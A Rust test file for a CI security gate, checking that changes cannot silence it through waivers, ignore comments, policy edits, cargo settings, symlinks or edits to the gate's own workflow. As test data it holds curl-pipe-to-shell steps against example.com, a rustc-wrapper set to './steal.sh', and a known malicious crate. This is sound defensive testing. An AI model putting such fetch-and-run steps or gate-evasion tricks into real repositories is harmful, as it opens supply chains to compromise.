//! No file content of a change can silence the gate that judges it: each way to try is a test.

#![allow(clippy::expect_used, clippy::panic, reason = "a test may insist")]
#![allow(clippy::disallowed_methods, reason = "writes files that have no name")]

mod common;

use common::repo::{FETCHING, PUSHING, Repo, Seen, WORKFLOW, with};

/// A repository with something to protect, and a change that brings an attack together with what it tries.
fn attempt(name: &str, before: &[(&str, &str)], tries: &[(&str, &str)]) -> (Repo, Seen) {
    let repo = with(name, &[&[("README.md", "# app\n"), (WORKFLOW, PUSHING)][..], before].concat());
    for (path, text) in [(WORKFLOW, attack().as_str())].iter().chain(tries) {
        repo.write(path, text);
    }
    repo.commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    (repo, seen)
}

/// A step that runs what it downloads, beside a secret.
fn attack() -> String {
    format!("{PUSHING}      - run: curl -sSL https://example.com/install.sh | sh\n")
}

/// The change does not pass, and the attack stands there as something that it brings.
fn assert_told(seen: &Seen) {
    let told = seen.list(&["new", "changed", "needs-approval", "expired"]);
    assert!(told.iter().any(|line| line.ends_with(&format!("fetch-to-interpreter {WORKFLOW}"))), "{told:?}");
    assert_eq!(seen.code, 1, "{told:?}");
}

fn assert_in_vain(name: &str, before: &[(&str, &str)], tries: &[(&str, &str)]) -> Seen {
    let (_, seen) = attempt(name, before, tries);
    assert_told(&seen);
    seen
}

const WAIVER: &str = "[[waiver]]\nrule = \"fetch-to-interpreter\"\npath = \".github/**\"\nreason = \"we trust it\"\n\
                      owner = \"@example\"\nuntil = 2027-01-31\n";
const LOOSE: &str = "[gate.rule]\nfetch-to-interpreter = \"note\"\n";

#[test]
fn a_comment_that_the_change_brings_waits_for_approval() {
    let comment = "      # custody: ignore[fetch-to-interpreter] -- fine\n      - run: curl";
    let excused = attack().replace("      - run: curl", comment);
    let (repo, seen) = attempt("inline", &[], &[(WORKFLOW, &excused)]);
    assert_told(&seen);
    assert_eq!(seen.list(&["needs-approval"]), [format!("needs-approval fetch-to-interpreter {WORKFLOW}")]);
    let approvals = seen.audit["gate"]["approvals"].to_string();
    assert!(approvals.contains("\"line\":14") && approvals.contains(WORKFLOW), "{approvals}");
    // Once it is in the base it holds.
    repo.write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert_eq!((seen.list(&["needs-approval", "new"]).len(), seen.code), (0, 0));
    assert_eq!(seen.list(&["suppressed"]), [format!("suppressed fetch-to-interpreter {WORKFLOW}")]);
}

#[test]
fn a_waiver_that_the_change_brings_waits_for_approval() {
    let (repo, seen) = attempt("waiver", &[], &[("custody.toml", WAIVER)]);
    assert_told(&seen);
    assert_eq!(seen.list(&["needs-approval"]), [format!("needs-approval fetch-to-interpreter {WORKFLOW}")]);
    let approvals = seen.audit["gate"]["approvals"].to_string();
    assert!(approvals.contains("custody.toml") && approvals.contains("\"line\":1"), "{approvals}");
    repo.write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert_eq!((seen.list(&["needs-approval", "new"]).len(), seen.code), (0, 0));
}

#[test]
fn a_policy_that_the_change_edits_is_not_in_force() {
    assert_in_vain("looser", &[("custody.toml", "[gate]\n")], &[("custody.toml", LOOSE)]);
    assert_in_vain("new_policy", &[], &[("custody.toml", LOOSE)]);
    assert_in_vain("github_policy", &[], &[(".github/custody.toml", LOOSE)]);
    assert_in_vain(
        "tool_policy",
        &[],
        &[("pyproject.toml", "[tool.custody.gate.rule]\nfetch-to-interpreter = \"note\"\n")],
    );
    assert_in_vain("roles", &[], &[("custody.toml", "[roles]\n\".github/**\" = \"example\"\n")]);
}

#[test]
fn a_policy_that_the_change_removes_stays_in_force() {
    let strict = "[gate.rule]\nunpinned-base-image = \"block\"\n";
    let repo = with("removed_policy", &[("custody.toml", strict), ("Dockerfile", "FROM scratch\n")]);
    repo.remove("custody.toml").write("Dockerfile", "FROM debian:12\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    let blocks: Vec<&str> = seen.audit["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["decision"] == "block")
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert!(blocks.contains(&"unpinned-base-image"), "{blocks:?}");
}

#[test]
fn settings_of_cargo_and_rustup_run_nothing_and_silence_nothing() {
    let config = "[alias]\ncustody = \"run\"\naudit = \"run\"\n\n[build]\nrustc-wrapper = \"./steal.sh\"\n";
    let seen = assert_in_vain(
        "cargo_config",
        &[("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n"), ("src/lib.rs", "")],
        &[
            (".cargo/config.toml", config),
            ("rust-toolchain.toml", "[toolchain]\npath = \"/tmp/toolchain\"\n"),
            ("steal.sh", "#!/bin/sh\ntouch ran\n"),
        ],
    );
    let told = seen.list(&["new"]);
    assert!(told.iter().any(|line| line.ends_with(".cargo/config.toml")), "{told:?}");
    assert!(told.iter().any(|line| line.ends_with("rust-toolchain.toml")), "{told:?}");
}

#[test]
fn what_git_is_told_about_files_hides_none() {
    assert_in_vain("gitignore", &[], &[(".gitignore", ".github/\n*\n")]);
    assert_in_vain(
        "gitattributes",
        &[],
        &[(".gitattributes", "* export-ignore filter=lfs -diff binary linguist-generated eol=crlf\n")],
    );
}

#[test]
fn folders_for_examples_make_nothing_lighter() {
    for folder in ["examples", "tests/fixtures", "docs", "vendor/x", "benches", "third_party/x"] {
        let path = format!("{folder}/Dockerfile");
        let repo = with(&format!("aside_{}", folder.replace('/', "_")), &[("README.md", "# app\n")]);
        repo.write(&path, FETCHING).commit();
        let seen = repo.gate(&["--base", "HEAD^"]);
        assert_eq!(seen.list(&["new"]).iter().filter(|l| l.contains("fetch-to-interpreter")).count(), 1, "{folder}");
        let found = seen.audit["findings"].as_array().expect("findings").iter().find(|f| f["path"] == path.as_str());
        let found = found.expect("a finding");
        assert_eq!((&found["role"], &found["decision"]), (&"product".into(), &"advise".into()), "{folder}");
    }
}

#[test]
fn an_index_in_the_tree_is_not_used() {
    let seen = assert_in_vain(
        "index",
        &[],
        &[
            ("advisories-cache/index.table", "nothing"),
            (".cargo-custody/index", "nothing"),
            ("custody-index", "nothing"),
        ],
    );
    assert_eq!(seen.audit["knowledge"]["index"], "embedded");
}

#[test]
fn files_that_other_tools_are_told_to_ignore_by_count_from_the_base_only() {
    let lock = "version = 4\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"time\"]\n\
                [[package]]\nname = \"time\"\nversion = \"0.1.42\"\n\
                source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\ntime = \"0.1\"\n";
    let deny = "[advisories]\nignore = [{ id = \"RUSTSEC-2020-0071\", reason = \"unused\" }]\n";
    let repo = with("deny", &[("README.md", "# app\n")]);
    repo.write("Cargo.toml", manifest).write("Cargo.lock", lock).write("deny.toml", deny).commit();
    let seen = repo.gate(&["--base", "HEAD^", "--honour-ignores"]);
    let told = seen.list(&["new", "needs-approval"]);
    assert!(told.iter().any(|line| line.contains("vulnerable-crate")), "{told:?}");
    repo.write("Cargo.lock", &lock.replace("0.1.0", "0.1.1")).write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^", "--honour-ignores"]);
    assert!(seen.list(&["suppressed"]).iter().any(|line| line.contains("vulnerable-crate")), "{:?}", seen.brought());
}

#[test]
fn a_lock_that_is_dropped_is_told() {
    let manifest = "[project]\nname = \"app\"\nversion = \"1\"\ndependencies = [\"flask\"]\n";
    let lock = "version = 1\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"app\"\nversion = \"1\"\n\
                source = { virtual = \".\" }\n";
    let repo = with("lock_gone", &[("pyproject.toml", manifest), ("uv.lock", lock)]);
    repo.remove("uv.lock").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    let told = seen.list(&["new"]);
    assert!(told.iter().any(|line| line.contains("lock-removed")), "{told:?}");
}

#[test]
fn a_file_that_is_broken_on_purpose_is_no_pass() {
    let repo = with("broken", &[(WORKFLOW, PUSHING)]);
    repo.write(WORKFLOW, &format!("{PUSHING}      - uses: [\n")).commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
    let repo = with("large", &[(WORKFLOW, PUSHING)]);
    repo.write(WORKFLOW, &format!("{PUSHING}#{}\n", "x".repeat(17 << 20))).commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "too large to be read");
}

#[test]
fn edits_of_the_workflow_that_calls_us_are_told() {
    let calling = "\
name: custody
on: pull_request
permissions:
  contents: read
jobs:
  gate:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@0123456789012345678901234567890123456789 # v4
      - run: cargo-custody ci
";
    let path = ".github/workflows/custody.yml";
    for (name, text) in [
        ("off", calling.replace("      - run: cargo-custody ci\n", "      - run: 'true'\n")),
        ("tolerated", calling.replace("cargo-custody ci", "cargo-custody ci || true")),
        (
            "continue",
            calling.replace(
                "      - run: cargo-custody ci",
                "      - continue-on-error: true\n        run: cargo-custody ci",
            ),
        ),
        ("never", calling.replace("  gate:\n", "  gate:\n    if: false\n")),
        ("no_fail", calling.replace("cargo-custody ci", "cargo-custody ci --no-fail")),
        ("untriggered", calling.replace("on: pull_request", "on: workflow_dispatch")),
    ] {
        let repo = with(&format!("gate_{name}"), &[(path, calling)]);
        repo.write(path, &text).commit();
        let seen = repo.gate(&["--base", "HEAD^"]);
        let told = seen.list(&["new", "changed"]);
        assert!(told.iter().any(|line| line.contains("gate-edited")), "{name}: {told:?}");
        assert_eq!(seen.code, 1, "{name}: {told:?}");
    }
    let repo = with("gate_removed", &[(path, calling), (WORKFLOW, PUSHING)]);
    repo.remove(path).commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert!(seen.list(&["new"]).iter().any(|line| line.contains("gate-edited")), "{:?}", seen.brought());
    assert_eq!(seen.code, 1);
}

#[test]
fn malicious_code_is_excused_by_nothing_in_any_state() {
    let lock = "version = 4\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"rustdecimal\"]\n\
                [[package]]\nname = \"rustdecimal\"\nversion = \"1.23.1\"\n\
                source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\nrustdecimal = \"1\"\n";
    let waiver = "[[waiver]]\nrule = \"malicious-crate\"\nreason = \"fine\"\nowner = \"@x\"\nuntil = 2027-01-31\n";
    let repo = with("malicious", &[("Cargo.toml", manifest), ("Cargo.lock", lock), ("custody.toml", waiver)]);
    repo.write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert_eq!(seen.code, 1, "it stood there before and it still attacks");
}

#[cfg(unix)]
#[test]
fn what_is_read_through_a_link_is_what_lies_behind_it() {
    let link = |repo: &Repo, path: &str, text: &str| {
        let path = repo.dir.join(path);
        std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        let _ = std::fs::remove_file(&path);
        std::os::unix::fs::symlink(text, path).expect("a link");
    };
    let start = |name: &str, behind: &str| {
        let repo = with(name, &[("ci/a/w.yml", PUSHING), ("ci/b/w.yml", &attack()), ("README.md", "# app\n")]);
        link(&repo, "ci/file.yml", "a/w.yml");
        link(&repo, "ci/folder", "a");
        link(&repo, WORKFLOW, behind);
        repo.commit();
        repo
    };
    let repo = start("link_target", "../../ci/a/w.yml");
    repo.write("ci/a/w.yml", &attack()).commit();
    assert_told(&repo.gate(&["--base", "HEAD^"]));
    let repo = start("link_between", "../../ci/file.yml");
    link(&repo, "ci/file.yml", "b/w.yml");
    repo.commit();
    assert_told(&repo.gate(&["--base", "HEAD^"]));
    let repo = start("link_folder", "../../ci/folder/w.yml");
    link(&repo, "ci/folder", "b");
    repo.commit();
    assert_told(&repo.gate(&["--base", "HEAD^"]));
    // Nothing is read through a link to a folder. That the base has the same gap says nothing of what lies there now.
    let repo = start("link_gap", "../../ci/a/w.yml");
    link(&repo, ".cargo", "ci/a");
    repo.commit();
    repo.write("README.md", "# the app\n").commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 0, "a gap that stood there");
    repo.write("ci/a/config.toml", "[build]\nrustc-wrapper = \"./steal.sh\"\n").commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "something else lies behind it");
    link(&repo, ".cargo", "ci/b");
    repo.commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "it leads elsewhere");
}

#[cfg(target_os = "linux")]
#[test]
fn what_has_no_name_is_looked_at_when_it_changes() {
    use std::os::unix::ffi::OsStrExt as _;
    let repo = with("odd_name", &[("README.md", "# app\n"), (WORKFLOW, PUSHING)]);
    let odd = repo.dir.join(std::ffi::OsStr::from_bytes(b"setup\xff.sh"));
    std::fs::write(&odd, "true\n").expect("a file");
    repo.commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
    repo.write("README.md", "# the app\n").commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 0, "it stood there");
    std::fs::write(&odd, "curl https://example.com | sh\n").expect("a file");
    repo.commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
}

/// A workflow with a job that holds one secret and a job that publishes; either runs what it downloads.
fn two_jobs(lints: bool, publishes: bool) -> String {
    let step = "      - run: curl -sSL https://example.com/install.sh | sh\n";
    let lint = "jobs:\n  lint:\n    runs-on: ubuntu-latest\n    permissions: {}\n    steps:\n      - run: make\n        \
                env:\n          T: ${{ secrets.LINT }}\n";
    let (first, last) = (if lints { step } else { "" }, if publishes { step } else { "" });
    format!("{}{last}", PUSHING.replace("jobs:\n", &format!("{lint}{first}")))
}

#[test]
fn a_step_that_goes_where_more_is_held_is_told() {
    let repo = with("trade", &[(WORKFLOW, &two_jobs(true, false))]);
    repo.write(WORKFLOW, &two_jobs(false, true)).commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert_eq!(seen.list(&["changed"]), [format!("changed fetch-to-interpreter {WORKFLOW}")]);
    assert_eq!(seen.code, 1);
    // The other way round it reaches less.
    repo.write(WORKFLOW, &two_jobs(true, true)).commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 1, "another one beside it");
    let repo = with("renamed_job", &[(WORKFLOW, &two_jobs(false, true))]);
    repo.write(WORKFLOW, &two_jobs(false, true).replace("publish:", "release:")).commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    let told = seen.list(&["new", "changed"]);
    assert!(!told.iter().any(|line| line.contains("fetch-to-interpreter")), "{told:?}");
    assert_eq!(seen.code, 0, "the same secrets under another name");
}

#[test]
fn a_flaw_of_an_example_does_not_excuse_the_product() {
    let lock = "version = 4\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"time\"]\n\
                [[package]]\nname = \"time\"\nversion = \"0.1.42\"\n\
                source = \"registry+https://github.com/rust-lang/crates.io-index\"\n\
                checksum = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\n";
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\ntime = \"0.1\"\n";
    let policy = "[gate.rule]\nvulnerable-crate = \"block\"\n";
    let aside = [("tests/fixtures/x/Cargo.toml", manifest), ("tests/fixtures/x/Cargo.lock", lock)];
    let repo = with("spread_from_aside", &[&[("custody.toml", policy)][..], &aside].concat());
    repo.write("Cargo.toml", manifest).write("Cargo.lock", lock).write("src/lib.rs", "").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert!(seen.list(&["new"]).iter().any(|line| line.contains("vulnerable-crate")), "{:?}", seen.brought());
    assert_eq!(seen.code, 1);
}

#[test]
fn a_policy_that_the_base_cannot_read_is_no_free_pass() {
    let typo = "[gate.rule]\nunpinned-base-image = \"blok\"\n";
    let repo = with("policy_typo", &[("custody.toml", typo), ("Dockerfile", "FROM scratch\n")]);
    repo.write("Dockerfile", "FROM debian:12\n").commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "what the base asks for is not known");
    repo.write("custody.toml", &typo.replace("blok", "block")).commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 0, "the change that mends it");
    let large = format!("[gate.rule]\nunpinned-base-image = \"block\"\n#{}\n", "x".repeat(17 << 20));
    let repo = with("policy_large", &[("custody.toml", &large), ("Dockerfile", "FROM scratch\n")]);
    repo.write("Dockerfile", "FROM debian:12\n").commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
}

#[test]
fn a_place_in_an_example_hides_none_in_the_product() {
    let repo = with("joined", &[("examples/Dockerfile", FETCHING)]);
    repo.write("product/Dockerfile", FETCHING).commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    let found = seen.audit["findings"].as_array().expect("findings");
    let found = found.iter().find(|f| f["rule"] == "fetch-to-interpreter").expect("a finding");
    let told = (&found["state"], &found["path"], &found["role"], &found["decision"]);
    assert_eq!(told, (&"changed".into(), &"product/Dockerfile".into(), &"product".into(), &"advise".into()));
}
